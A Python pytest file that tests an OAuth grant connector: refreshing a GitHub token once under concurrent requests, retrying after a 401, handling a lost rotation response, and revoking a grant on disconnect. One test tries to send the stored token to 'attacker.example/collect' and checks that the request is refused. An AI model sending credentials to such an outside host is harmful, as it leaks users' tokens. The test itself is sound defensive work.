"""Using a grant: the token goes only to the provider's API origin, refreshes once at a time, rotation is kept."""

from __future__ import annotations

import asyncio
from datetime import timedelta

import pytest

from service import ConnectorError, GrantNeedsUser, NotAuthorized, ProviderUnavailable, SessionScope
from service.core.handles import grant_aad
from service.testing import ScriptedBrowser

from .acp_peers import RecordingClient, connect
from .conftest import Deployment


async def authorize(deployment: Deployment) -> None:
    """Run the real flow once so the local user holds a GitHub grant."""
    client = RecordingClient(answer="accept")
    wire = await connect(deployment.connector, deployment.local_user, client)
    assert wire.agent.conn is not None
    request = asyncio.create_task(
        deployment.connector.request_authorization(
            wire.agent.conn,
            user=deployment.local_user,
            provider="github",
            scopes=["repo"],
            scope=SessionScope("sess-1"),
        )
    )
    async with ScriptedBrowser() as browser:
        assert (await browser.authorize(await client.next_url())).status_code == 200
    assert (await asyncio.wait_for(request, 10)).ok
    await wire.close()


def refreshes(deployment: Deployment) -> int:
    return sum(1 for r in deployment.provider.token_requests if r.get("grant_type") == "refresh_token")


async def stored_tokens(deployment: Deployment) -> dict[str, object]:
    user = deployment.local_user
    (grant,) = await deployment.connector.runtime.store.grants.find(user, "github")
    aad = grant_aad(user.issuer, user.subject, "github", grant.provider_account_id)
    return deployment.connector.runtime.vault.decrypt_json(grant.token_key_id, grant.token_ciphertext, aad=aad)  # type: ignore[no-any-return]


async def test_token_near_expiry_is_refreshed_once_for_concurrent_requests(deployment: Deployment) -> None:
    deployment.provider.expires_in = 30
    await authorize(deployment)
    first_refresh_token = deployment.provider.issued_refresh_tokens[0]
    deployment.connector.clock.advance(timedelta(seconds=28))  # inside the last 10 % of the token's life
    async with deployment.connector.http(deployment.local_user, "github") as github:
        responses = await asyncio.gather(*(github.get("user") for _ in range(5)))
    assert [r.status_code for r in responses] == [200] * 5
    # Each request saw a token near expiry; the lock let one refresh happen, and the others used its result.
    assert refreshes(deployment) == 1
    stored = await stored_tokens(deployment)
    assert stored["access_token"] == deployment.provider.issued_access_tokens[-1]
    assert stored["refresh_token"] == deployment.provider.issued_refresh_tokens[-1] != first_refresh_token


async def test_rejected_token_is_refreshed_and_the_request_retried_once(deployment: Deployment) -> None:
    await authorize(deployment)
    async with deployment.connector.http(deployment.local_user, "github") as github:
        assert (await github.get("user")).status_code == 200
        calls_before = len(deployment.provider.api_calls)
        deployment.provider.expire_access_tokens()  # the provider no longer accepts the token
        retried = await github.get("user")
    assert retried.status_code == 200
    assert refreshes(deployment) == 1
    assert len(deployment.provider.api_calls) - calls_before == 2  # the 401, then the retry


async def test_concurrent_401s_cause_a_single_refresh(deployment: Deployment) -> None:
    await authorize(deployment)
    async with deployment.connector.http(deployment.local_user, "github") as github:
        assert (await github.get("user")).status_code == 200
        deployment.provider.expire_access_tokens()
        responses = await asyncio.gather(*(github.get("user") for _ in range(4)))
    assert [r.status_code for r in responses] == [200] * 4
    assert refreshes(deployment) == 1  # the others saw the fresh token and did not refresh again


async def test_failed_refresh_asks_for_authorization_again(deployment: Deployment) -> None:
    deployment.provider.expires_in = 30
    await authorize(deployment)
    deployment.connector.clock.advance(timedelta(seconds=28))
    deployment.provider.revoke_refresh_tokens()
    async with deployment.connector.http(deployment.local_user, "github") as github:
        with pytest.raises(NotAuthorized, match="authorized again"):
            await github.get("user")
    events = [e.event for e in await deployment.connector.runtime.store.audit.list(event="refresh_failed")]
    assert events == ["refresh_failed"]


async def test_a_refresh_answer_lost_after_rotation_changes_nothing_stored(deployment: Deployment) -> None:
    """The provider rotated the refresh token, but its answer never arrived (a timeout). The connector never
    received the new token, so it cannot have stored it: what is stored stays the newest set it received, the
    call raises the retryable error, and once the provider refuses the old refresh token the grant needs the user
    again (README, Operations)."""
    deployment.provider.expires_in = 30
    await authorize(deployment)
    before = await stored_tokens(deployment)
    deployment.connector.clock.advance(timedelta(seconds=31))  # expired: the old token cannot serve meanwhile
    deployment.provider.lose_refresh_answers = 1
    async with deployment.connector.http(deployment.local_user, "github") as github:
        with pytest.raises(ProviderUnavailable, match="ReadTimeout"):
            await github.get("user")
        assert await stored_tokens(deployment) == before  # nothing half-written, nothing dropped
        deployment.connector.clock.advance(timedelta(minutes=6))  # past the backoff
        with pytest.raises(GrantNeedsUser, match="access was revoked or has expired on Mock Provider's side"):
            await github.get("user")  # the provider had rotated: the stored refresh token is dead there
    assert await stored_tokens(deployment) == before
    assert refreshes(deployment) == 2
    failures = await deployment.connector.runtime.store.audit.list(event="refresh_failed")
    assert [(e.detail["reason"], e.detail["verdict"]) for e in failures] == [
        ("provider_token_error", "unavailable"),
        ("provider_token_error", "needs_user"),
    ]


async def test_token_is_never_sent_to_another_host(deployment: Deployment) -> None:
    await authorize(deployment)
    before = list(deployment.provider.api_calls)
    async with deployment.connector.http(deployment.local_user, "github") as github:
        with pytest.raises(ConnectorError, match="refusing to send") as refused:
            await github.get("https://attacker.example/collect")
        with pytest.raises(ConnectorError):
            await github.get(deployment.provider.base_url.replace("https://", "http://") + "/api/user")
    assert refused.value.code == "credential_host_not_allowed"
    assert deployment.provider.api_calls == before


async def test_disconnect_revokes_and_forgets_the_grant(deployment: Deployment) -> None:
    await authorize(deployment)
    user = deployment.local_user
    async with deployment.connector.http(user, "github") as github:
        assert (await github.get("user")).status_code == 200
        assert await deployment.connector.disconnect(user, "github") == 1
        with pytest.raises(NotAuthorized):
            await github.get("user")  # the cached token is not used for a deleted grant
    assert await deployment.connector.find_grant(user, "github") is None
    with pytest.raises(NotAuthorized):
        async with deployment.connector.http(user, "github"):
            pass
